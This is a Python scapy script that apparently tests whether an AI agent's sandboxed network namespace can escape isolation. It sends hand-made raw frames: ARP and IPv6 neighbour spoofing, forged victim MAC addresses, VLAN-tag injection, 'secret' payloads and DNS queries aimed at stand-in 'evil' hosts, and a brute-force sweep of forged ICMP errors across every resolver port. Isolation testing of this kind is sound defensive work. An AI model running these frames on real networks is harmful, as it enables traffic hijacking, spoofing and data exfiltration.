"""frames.py KIND GATEWAY_MAC ARGUMENT...: what a workload with raw sockets sends by hand. As root of an agent's namespace; says `sent`."""

import socket
import sys
import time

from scapy.all import (
    ARP,
    DNS,
    DNSQR,
    ICMP,
    IP,
    TCP,
    UDP,
    Ether,
    ICMPv6DestUnreach,
    ICMPv6EchoRequest,
    ICMPv6MLQuery,
    ICMPv6ND_NA,
    ICMPv6NDOptDstLLAddr,
    IPv6,
    IPv6ExtHdrHopByHop,
    RouterAlert,
    conf,
    get_if_hwaddr,
)

ME4, ME6, OTHER4, OTHER6, GATE4, GATE6 = "172.20.0.7", "fd00:20::7", "172.20.0.8", "fd00:20::8", "172.20.0.1", "fd00:20::1"
EVIL4, EVIL6 = "185.199.108.66", "2a0a:e5c0::66"
SECRET = b"secret " * 30


def wrapped(mac, tags, target, port):
    """As another agent, behind `tags` (ethertypes in hexadecimal) with the VLAN 0, which means none."""
    header = b"".join(int(tag, 16).to_bytes(2, "big") + b"\0\0" for tag in tags.split(",") if tag)
    for packet in (
        IP(src=OTHER4, dst=target) / UDP(sport=7777, dport=int(port)) / b"beef",
        IP(src=OTHER4, dst=GATE4) / UDP(sport=7778, dport=53) / DNS(rd=1, qd=DNSQR(qname="api.example.test")),
        ARP(op=2, psrc=OTHER4, pdst=GATE4, hwsrc=get_if_hwaddr("eth0"), hwdst=mac),
    ):
        whole = bytes(Ether(dst=mac) / packet)
        yield whole[:12] + header + whole[12:]


def stolen(mac, victim, seconds):
    """Frames of no protocol that say to come from the victim's interface."""
    frame = bytes.fromhex("ff" * 6 + victim.replace(":", "")) + b"\x88\xb5" + bytes(50)
    known = bytes.fromhex("ff" * 6 + victim.replace(":", "")) + bytes(Ether() / ARP(psrc=ME4, pdst=GATE4))[12:]
    for _ in range(int(float(seconds) * 200)):
        yield from (frame, known)
        time.sleep(0.005)


def advertised(mac, seconds):
    for _ in range(int(float(seconds) * 100)):
        answer = ICMPv6ND_NA(tgt=OTHER6, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=get_if_hwaddr("eth0"))
        yield bytes(Ether(dst=mac) / IPv6(src=ME6, dst=GATE6, hlim=255) / answer)
        time.sleep(0.01)


def taken(mac, address4, address6, target, port):
    """As addresses that nobody has used yet, by every way there is to say so."""
    mine = get_if_hwaddr("eth0")
    for _ in range(2):
        yield bytes(Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, psrc=address4, pdst=address4, hwsrc=mine))
        yield bytes(Ether(dst=mac) / ARP(op=2, psrc=address4, pdst=GATE4, hwsrc=mine, hwdst=mac))
        yield bytes(Ether(dst=mac) / IP(src=address4, dst=target) / UDP(sport=7777, dport=int(port)) / b"beef")
        yield bytes(Ether(dst=mac) / IP(src=address4, dst=GATE4) / UDP(sport=7778, dport=53) / DNS(rd=1, qd=DNSQR(qname="api.example.test")))
        yield bytes(Ether(dst=mac) / IPv6(src=address6, dst=GATE6) / UDP(sport=7779, dport=53) / DNS(rd=1, qd=DNSQR(qname="api.example.test")))
        yield bytes(Ether(dst=mac) / IPv6(src=ME6, dst=GATE6, hlim=255) / ICMPv6ND_NA(tgt=address6, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mine))
        time.sleep(0.05)


def link_local(mac):
    """To the groups that a bridge gives its host unseen (IEEE 802.1D): what the host would answer to an outside address, and routers."""
    for last in range(16):
        to = Ether(dst=f"01:80:c2:00:00:{last:02x}")
        for mine in (GATE4, "5.9.10.2"):
            yield bytes(to / IP(src=EVIL4, dst=mine) / ICMP(type=8) / SECRET)
            yield bytes(to / IP(src=EVIL4, dst=mine) / UDP(sport=99, dport=53) / DNS(rd=1, qd=DNSQR(qname="secret.evil.test")))
            yield bytes(to / IP(src=EVIL4, dst=mine) / UDP(sport=99, dport=7000) / SECRET)
        for mine in (GATE6, "2a01:4f8:10::2"):
            yield bytes(to / IPv6(src=EVIL6, dst=mine) / ICMPv6EchoRequest(data=SECRET))
            yield bytes(to / IPv6(src=EVIL6, dst=mine) / UDP(sport=99, dport=53) / DNS(rd=1, qd=DNSQR(qname="secret.evil.test")))
        yield bytes(to / IP(src=EVIL4, dst=EVIL4) / UDP(sport=99, dport=99) / SECRET)


def stolen_unseen(mac, victim, seconds):
    """The victim's source address in frames to those groups."""
    source = bytes.fromhex(victim.replace(":", ""))
    for _ in range(int(float(seconds) * 300)):
        for last in (0, 2, 3, 14):
            yield bytes.fromhex("0180c20000") + bytes([last]) + source + b"\x88\xcc" + bytes(50)
        time.sleep(0.003)


def queried(mac, seconds):
    """As a router that asks who is in a group (MLD, IGMP) and forwards for it (PIM)."""
    me = "fe80::7"
    for _ in range(int(float(seconds) * 20)):
        for group in ("ff02::1:ff00:1", "ff02::1:ff00:8", "::"):
            to = "ff02::1" if group == "::" else group
            hop = IPv6ExtHdrHopByHop(options=[RouterAlert()])
            yield bytes(Ether(dst="33:33:00:00:00:01") / IPv6(src=me, dst=to, hlim=1) / hop / ICMPv6MLQuery(mladdr=group, mrd=1))
        igmp = b"\x11\x01\xee\xfe" + bytes(4)
        yield bytes(Ether(dst="01:00:5e:00:00:01") / IP(src=ME4, dst="224.0.0.1", proto=2, ttl=1) / igmp)
        time.sleep(0.05)


def own_errors(mac):
    """ICMP errors about a flow of one's own to an address that is denied."""
    for family, host in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        with socket.socket(family) as s:
            s.settimeout(1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("", 44444))
            try:
                s.connect((host, 8080))
            except OSError:
                pass
    about4 = IP(src=EVIL4, dst=ME4) / TCP(sport=8080, dport=44444, flags="A", seq=1, ack=1) / SECRET
    about6 = IPv6(src=EVIL6, dst=ME6) / TCP(sport=8080, dport=44444, flags="A", seq=1, ack=1) / SECRET
    for kind, code in ((3, 3), (3, 4), (11, 0), (12, 0)):
        yield bytes(Ether(dst=mac) / IP(src=ME4, dst=EVIL4) / ICMP(type=kind, code=code) / about4)
    yield bytes(Ether(dst=mac) / IPv6(src=ME6, dst=EVIL6) / ICMPv6DestUnreach(code=1) / about6)


def errors_about_others(mac, server, host):
    """About the gateway's own flows to its resolver: one guess for each port."""
    about = bytes(IP(src=server, dst=host) / UDP(sport=53, dport=0, len=60, chksum=0))
    for port in range(1024, 65536):
        inner = about[:22] + port.to_bytes(2, "big") + about[24:] + SECRET[:48]
        body = b"\x03\x03" + bytes(6) + inner
        total = sum(int.from_bytes(body[i : i + 2], "big") for i in range(0, len(body), 2))
        total = (total >> 16) + (total & 0xFFFF)
        body = body[:2] + (~(total + (total >> 16)) & 0xFFFF).to_bytes(2, "big") + body[4:]
        if port == 1024:
            head = bytes(Ether(dst=mac) / IP(src=ME4, dst=server, proto=1, len=20 + len(body)))
        yield head + body
        if port % 200 == 0:
            time.sleep(0.002)


def main():
    kind, *arguments = sys.argv[1:]
    conf.verb = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        for frame in globals()[kind](*arguments):
            wire.send(frame)
    print("sent")


main()
